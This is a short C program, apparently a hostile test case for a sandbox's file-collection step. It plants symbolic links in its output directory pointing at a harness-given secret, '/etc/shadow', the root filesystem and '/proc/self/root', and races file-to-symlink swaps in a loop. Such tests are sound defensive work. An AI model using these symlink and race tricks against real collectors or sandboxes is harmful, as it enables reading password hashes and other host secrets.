// Attacks: the collection of files: the place that is collected is a symbolic link to a file of the host, or becomes one.
#include "../hostile.h"
int main(void) {
  symlink(given("HOSTILE_SECRET"), "/box/out");
  symlink("/etc/shadow", "/box/shadow");
  symlink("/", "/box/root");
  symlink("/proc/self/root", "/box/self");
  for (int i = 0; i < 200; i++) {
    unlink("/box/flip");
    close(open("/box/flip", O_CREAT | O_WRONLY, 0600));
    unlink("/box/flip");
    symlink(given("HOSTILE_SECRET"), "/box/flip");
  }
  return 0;
}
